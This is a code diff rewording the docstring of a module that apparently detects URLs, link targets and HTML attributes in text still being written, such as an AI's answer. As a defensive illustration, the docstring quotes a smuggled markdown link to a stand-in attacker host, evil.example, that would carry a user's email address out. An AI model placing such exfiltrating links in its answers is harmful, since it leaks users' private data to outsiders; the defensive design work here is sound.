@@ -1,7 +1,7 @@
 r"""Addresses of the web in a text that is still being written: URLs, targets of links and images, attributes of HTML.
 
-Whoever is at an address reads what stands in it, with one click, and for images without one. So an answer into which
-somebody has smuggled `[order](https://evil.example/?<EMAIL_ADDRESS_7KQ2M9XA>)` must not get the value there.
+The owner of an address reads what stands in it, with one click, and for images without one. So an answer into which
+an attacker has smuggled `[order](https://evil.example/?<EMAIL_ADDRESS_7KQ2M9XA>)` must not get the value there.
 
     bare            from `//`, `http:`, `www.` or a domain with `/`, `?` or `#` behind it, up to the next white space
     delimited       that directly behind `<`, `"` or `'`, up to the closing one
